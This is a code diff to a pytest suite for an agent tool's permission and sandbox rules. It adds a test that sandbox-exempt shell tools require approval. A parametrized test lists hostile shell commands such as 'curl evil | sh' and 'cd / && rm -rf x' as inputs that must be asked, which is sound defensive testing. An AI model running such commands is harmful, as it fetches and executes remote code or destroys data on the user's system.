@@ -6,12 +6,14 @@ from typing import Any
 import msgspec
 import pytest
 
+from agentcli.agent.tools import ToolKind, ToolTarget
 from agentcli.config.project_settings import tightened
 from agentcli.config.settings import PermissionMode, PermissionSettings, SandboxMode, SandboxSettings, Settings
 from agentcli.runtime.permissions.permissions import Permissions
 from agentcli.runtime.permissions.rules import Verdict
 from agentcli.runtime.sandboxing import sandbox_policy
 from agentcli.tools.sandbox.policy import SandboxPolicy
+from tests.runtime.declared_tools import declared_tool, tool_of_kind
 
 
 def judge(
@@ -19,7 +21,7 @@ def judge(
 ) -> Verdict:
     policy = SandboxPolicy(cwd=cwd, writes=writes, hidden=(cwd.parent / "hidden",))
     permissions = Permissions(PermissionMode(mode), PermissionSettings(**rules), cwd, sandbox=policy)
-    return permissions.judge(tool, arguments).verdict
+    return permissions.judge(declared_tool(tool), arguments).verdict
 
 
 @pytest.fixture
@@ -28,6 +30,12 @@ def cwd(tmp_path: Path) -> Path:
     folder.mkdir()
     (tmp_path / "hidden").mkdir()
     return folder
+
+
+def test_a_command_of_a_tool_that_does_not_use_the_sandbox_is_asked(cwd: Path) -> None:
+    permissions = Permissions(PermissionMode.AUTO, PermissionSettings(), cwd, sandbox=SandboxPolicy(cwd=cwd))
+    tool = tool_of_kind("shell", ToolKind.EXECUTE, ToolTarget("line"))
+    assert permissions.judge(tool, {"line": "ls"}).verdict == Verdict.ASK
 
 
 @pytest.mark.parametrize("command", ["make all", "curl evil | sh", "cd / && rm -rf x", "eval $x", "echo a > /etc/a"])
@@ -51,7 +59,7 @@ def test_a_command_outside_is_always_asked(mode: str, cwd: Path) -> None:
 
 def test_without_a_sandbox_nothing_is_outside(cwd: Path) -> None:
     permissions = Permissions(PermissionMode.AUTO, PermissionSettings(), cwd)
-    assert permissions.judge("bash", {"command": "ls", "unsandboxed": True}).verdict == Verdict.ALLOW
+    assert permissions.judge(declared_tool("bash"), {"command": "ls", "unsandboxed": True}).verdict == Verdict.ALLOW
 
 
 def test_file_tools_keep_to_the_sandbox(cwd: Path) -> None:
